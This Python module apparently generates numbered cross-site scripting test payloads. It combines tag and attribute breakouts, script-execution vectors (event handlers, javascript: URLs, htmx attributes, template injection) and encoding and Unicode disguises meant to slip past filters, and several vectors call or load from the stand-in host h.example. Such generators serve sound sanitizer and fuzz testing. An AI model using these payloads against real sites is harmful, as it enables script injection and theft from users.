"""Words that try to be a script: every way out of where they are put, with every way to run, in several disguises.

Made by combining, so that the same number always gives the same ones. ``§`` is the number of each, by which whatever
ran can be told. Short, so that the shortest field takes them.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import product

LONGEST = 110
FIRST_NUMBER = 10_000
WAYS_OUT = (
    "", '">', "'>", '" ', "' ", "`>", "</textarea>", "</title>", "</script>", "-->", "</style>",
    "</option></select>", "</a>", "]]>", "\\\"", "\n\n</p>",
)  # fmt: skip
ACTS = ("alert(§)", "hacked(§)", "top.hacked(§)", "print(§)", "fetch('//h.example/§')", "hacked`§`")
WAYS_TO_RUN = (
    "<script>ACT</script>",
    "<img src=x onerror=ACT>",
    "<svg onload=ACT>",
    "<svg/onload=ACT//",
    "<details open ontoggle=ACT>",
    "<input autofocus onfocus=ACT>",
    "<video><source onerror=ACT></video>",
    "<audio src onerror=ACT>",
    "<style onload=ACT></style>",
    "<iframe src=javascript:parent.ACT>",
    "<iframe srcdoc='<script>parent.ACT</script>'>",
    "<object data=javascript:ACT>",
    "<embed src=javascript:ACT>",
    "<math><mtext><img src=x onerror=ACT>",
    "<template><script>ACT</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ACT>'>",
    "<script src=//h.example/§></script>",
    "<img src=//h.example/§>",
    "<link rel=stylesheet href=//h.example/§>",
    "<style>@import'//h.example/§'</style>",
    "<meta http-equiv=refresh content='0;//h.example/§'>",
    "<base href=//h.example/§/>",
    "<form action=//h.example/§><input type=submit autofocus>",
    "<a href=javascript:ACT autofocus onfocus=ACT>x</a>",
    "<div hx-get=//h.example/§ hx-trigger=load>",
    "<div hx-on::load=ACT hx-get=/ hx-trigger=load>",
    "<div data-hx-post=//h.example/§ data-hx-trigger=load>",
    "autofocus onfocus=ACT x=",
    "onload=ACT onerror=ACT src=x ",
    "style=background:url(//h.example/§) ",
    ";ACT;//",
    "${ACT}",
    "{{ACT}}{%debug%}",
    "javascript:ACT",
    "data:text/html,<script>ACT</script>",
)


def _in_mixed_letters(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


def _mixed(text: str) -> str:
    name, act, rest = text.partition("ACT")
    return _in_mixed_letters(name) + act + rest if text.startswith("<") else text


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("<", "<\u200b", 1) + text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: "\u202e" + text,
    _mixed,
)


def hostile_words(number: int) -> list[str]:
    """``number`` different ones, taken at even distances from all that are short enough."""
    every = [way_out + disguise(way) for way_out, way, disguise in product(WAYS_OUT, WAYS_TO_RUN, DISGUISES)]
    short = [words for words in dict.fromkeys(every) if len(_whole(words, max(ACTS, key=len), 0)) <= LONGEST]
    step = len(short) / number
    return [_whole(short[int(place * step)], ACTS[place % len(ACTS)], place) for place in range(number)]


def _whole(words: str, act: str, place: int) -> str:
    return words.replace("ACT", act).replace("§", str(FIRST_NUMBER + place))
